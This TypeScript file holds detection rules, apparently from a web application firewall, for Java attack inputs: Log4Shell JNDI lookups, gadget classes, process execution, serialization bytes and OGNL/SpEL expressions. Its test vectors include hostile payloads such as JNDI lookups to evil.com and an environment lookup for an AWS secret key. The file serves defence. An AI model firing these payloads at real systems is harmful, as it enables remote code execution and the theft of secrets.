/** Java: dangerous classes, Runtime/ProcessBuilder execution, deserialization gadgets and magic bytes, JNDI lookups (Log4Shell, nested lookups included), OGNL and SpEL expressions. */
import type { ValueRule } from '../types.js';
import { B64L, D, DCLW, DL, INPUTS } from './common.js';

/** Resolves Log4j lookups that only spell a string (`${lower:j}`, `${::-n}`, `${env:X:-d}`), innermost first, a bounded number of rounds. */
export function resolveLog4jLookups(v: string): string {
  let s = v;
  for (let round = 0; round < 8 && s.indexOf('${') !== -1; round++) {
    const next = s.replace(/\$\{([^{}]{0,64})\}/g, (all, inner: string) => {
      const dflt = inner.indexOf(':-');
      if (dflt !== -1) return inner.slice(dflt + 2);
      const m = /^(lower|upper|date|main|sys|env|k8s|docker|web|bundle|ctx|marker|sd|spring|base64)\s{0,4}:(.{0,60})$/i.exec(inner);
      if (m) {
        const arg = (m[2] ?? '').replace(/^'|'$/g, '');
        return m[1]?.toLowerCase() === 'upper' ? arg.toUpperCase() : arg.toLowerCase() === arg ? arg : arg.toLowerCase();
      }
      return all;
    });
    if (next === s) break;
    s = next;
  }
  return s;
}

export const JAVA_RULES: readonly ValueRule[] = [
  {
    id: 'java-jndi-lookup',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'JNDI lookups in Log4j-style expressions (Log4Shell), including nested and obfuscated lookups (${${lower:j}ndi:…}, ${${::-j}${::-n}di:…})',
    targets: INPUTS,
    transforms: D,
    anyChar: '$',
    detect: (v) => {
      if (v.indexOf('${') === -1) return null;
      const r = resolveLog4jLookups(v).toLowerCase();
      const m = /\$\{\s{0,4}(?:jndi|ldap|rmi|dns|iiop|corba|nds|nis)\s{0,4}:/.exec(r) ?? /\$\{[^}]{0,40}\$\{|\$\{\s{0,4}(?:ctx|env|sys|java|main|bundle|web|k8s|docker|spring|sd|marker|base64)\s{0,4}:[^}]{0,60}\}/.exec(v.toLowerCase());
      return m ? { evidence: v.slice(Math.max(0, v.toLowerCase().indexOf('${')), Math.max(0, v.toLowerCase().indexOf('${')) + 80) } : null;
    },
    vectors: { fire: ['${jndi:ldap://evil.com/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${:1337:-x$}{jndi:ldap://evil.com/webshell}', '${env:AWS_SECRET_ACCESS_KEY}'], noFire: ['${name}', 'price ${5}'] },
  },
  {
    id: 'java-dangerous-class',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'Java classes and packages used in injections and gadget chains (java.lang.Runtime, java.io.*, javax.script, org.apache.commons, com.sun.*, xwork2, CORBA, Spring context)',
    targets: INPUTS,
    transforms: DL,
    anyChar: '.',
    keywords: ['java', 'org.', 'com.', 'sun.', 'ognl', 'jdk.'],
    pattern: /\bjava\.(?:lang|io|net|nio|util\.(?:zip|jar|concurrent)|rmi|beans|security|sql)\.[a-z]|\bjavax\.(?:script|naming|management|el|xml\.transform|sql)\b|\borg\.apache\.(?:commons|xalan|bcel|tomcat|catalina|struts2?|naming|log4j|myfaces|jasper|velocity|shiro|wicket|coyote)\b|\bcom\.sun\.(?:org\.apache|jndi|rowset|corba|jmx|net|script|xml)\b|\bcom\.opensymphony\.xwork2\b|\borg\.omg\.corba\b|\borg\.springframework\.(?:context|beans|expression|core|jndi|transaction)\b|\bsun\.(?:misc|reflect|rmi)\.|\bjdk\.jshell\b|\bognl\.ognl|\bgroovy\.(?:lang|util)\.|\borg\.codehaus\.groovy\b|\bbsh\.(?:interpreter|xthis)\b|\bcom\.mchange\.v2\.c3p0\b|\bcom\.alibaba\.fastjson\b|\bcom\.fasterxml\.jackson\.databind\b|\borg\.hibernate\.|\bch\.qos\.logback\b|\bjava\.lang\b/,
    vectors: { fire: ['java.lang.Runtime', 'java.io.BufferedReader', 'javax.script.ScriptEngineManager', 'org.apache.commons', 'com.opensymphony.xwork2', 'org.omg.CORBA', 'com.sun.org.apache'], noFire: ['javascript.info', 'java developer', 'org.example'] },
  },
  {
    id: 'java-process-execution',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'Java process execution (Runtime.getRuntime().exec(), ProcessBuilder, java.Runtime)',
    targets: INPUTS,
    transforms: DCLW,
    keywords: ['runtime', 'processbuilder', 'processimpl', 'unixprocess', '.exec'],
    pattern: /\bjava\b[^\n]{0,40}?\b(?:runtime|processbuilder|processimpl|unixprocess)\b|\b(?:runtime|processbuilder|processimpl|unixprocess)\b[^\n]{0,40}?\bjava\b|\bgetruntime ?\( ?\) ?\. ?exec\b|\bnew processbuilder\b|\bprocessbuilder ?\(|\b(?:runtime|processbuilder) ?\. ?(?:getruntime|exec|start|command)\b/,
    vectors: { fire: ['java.Runtime', 'java.ProcessBuilder', 'Runtime.getRuntime().exec("id")', 'new ProcessBuilder("id").start()'], noFire: ['runtime error', 'the process builder'] },
  },
  {
    id: 'java-deserialization-gadget',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'names of Java deserialization gadget classes (InvokerTransformer, ChainedTransformer, TemplatesImpl, JdbcRowSetImpl, …)',
    targets: INPUTS,
    transforms: DL,
    keywords: ['transformer', 'closure', 'factory', 'templatesimpl', 'rowsetimpl', 'lazymap', 'invocationhandler', 'comparator', 'expando', 'xalan', 'bcel', 'c3p0'],
    pattern: /\b(?:clone|invoker|instantiate|chained|constant|map|switch|predicated|closure|factory|instanceof)transformer\b|(?:clone|instantiate|prototypeclone|prototypeserialization|constant|exception|reflection)factory\b|(?:for|while|if|switch|chained|transformer|exception|nop)closure\b|\b(?:templatesimpl|jdbcrowsetimpl|lazymap|annotationinvocationhandler|badattributevalueexpexception|comparatorchain|transformingcomparator|beancomparator|priorityqueue\b.{0,40}comparator|methodclosure|convertedclosure|expando|rmiconnectionimpl|jndirefconnection|jtaTransactionManager|signedobject|unicastref|c3p0\.wrapperconnectionpooldatasource|com\.sun\.org\.apache\.bcel|\$\$bcel\$\$)/,
    vectors: { fire: ['ProcessBuilder.evil.clonetransformer', 'org.apache.commons.collections.functors.InvokerTransformer', 'forclosure', 'com.sun.rowset.JdbcRowSetImpl', 'whileclosure'], noFire: ['transformers movie', 'factory reset'] },
  },
  {
    id: 'java-serialization-magic',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'Java serialization streams: the magic bytes AC ED 00 05, their hex, and their base64 (rO0AB…, H4sIA… gzip)',
    targets: INPUTS,
    transforms: D,
    anyChar: 'rRaA\u00ac',
    // eslint-disable-next-line no-control-regex -- the serialization magic bytes contain NUL
    pattern: /rO0AB[QX]|\u00ac\u00ed\u0000\u0005|\baced0005[0-9a-f]{2}|%ac%ed%00%05/i,
    vectors: { fire: ['rO0ABQ', 'rO0ABXNyABFqYXZh', 'aced00057372'], noFire: ['ro0ab', 'rabbit'] },
  },
  {
    id: 'java-expression-language',
    class: 'java',
    severity: 'critical',
    paranoia: 1,
    description: 'OGNL / SpEL / EL expressions that reach classes or class loaders (%{(#…)}, @java.lang.Runtime@, #_memberAccess, T(java.lang.Runtime), class.module.classLoader)',
    targets: INPUTS,
    transforms: DCLW,
    anyChar: '#@(.',
    pattern: /%\{ ?\(? ?#|#_?memberaccess|#context ?\[|@(?:java|javax|ognl|org|com)\.[a-z.]{2,60}@|\bt ?\( ?(?:java|javax|org|com)\.[a-z.]{2,80}\)|#\{ ?t ?\(|\bclass\.(?:module\.)?classloader\b|\bgetclassloader ?\( ?\)|\.getclass ?\( ?\) ?\. ?forname ?\(|\bclass\.forname ?\(|\bforname ?\( ?['"]java|\.getdeclaredmethod ?\(|\.getmethod ?\( ?['"](?:exec|getruntime|invoke)|\.newinstance ?\( ?\)|\bscriptenginemanager\b|\.getenginebyname ?\(|\bfilesystemxmlapplicationcontext\b|\bclasspathxmlapplicationcontext\b|\$\{ ?(?:pagecontext|applicationscope|sessionscope|requestscope|facescontext|header|initparam)\b/,
    vectors: { fire: ['%{(#_memberAccess["allowStaticMethodAccess"]=true)}', '@java.lang.Runtime@getRuntime()', 'T(java.lang.Runtime).getRuntime()', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', "x.getClass().forName('java.lang.Runtime')"], noFire: ['#hashtag', 'a.getName()'] },
  },
  {
    id: 'java-base64-keyword',
    class: 'java',
    severity: 'critical',
    paranoia: 2,
    description: 'base64-encoded Java gadget and execution keywords (runtime, processbuilder, invokertransformer, …), at any alignment',
    targets: INPUTS,
    transforms: B64L,
    keywords: ['runtime', 'processbuilder', 'transformer', 'closure', 'factory', 'java.lang', 'jndi:', 'getruntime', 'templatesimpl'],
    pattern: /runtime|processbuilder|(?:clone|invoker|instantiate|chained|constant)transformer|(?:for|while)closure|(?:instantiate|prototypeclone|prototypeserialization)factory|java\.lang|\$\{jndi:|getruntime|templatesimpl/,
    vectors: { fire: ['cnVudGltZQ', 'HJ1bnRpbWU', 'cHJvY2Vzc2J1aWxkZXI', 'cHJvdG90eXBlY2xvbmVmYWN0b3J5'], noFire: ['username', 'dGhpcyBpcyBmaW5l'] },
  },
];
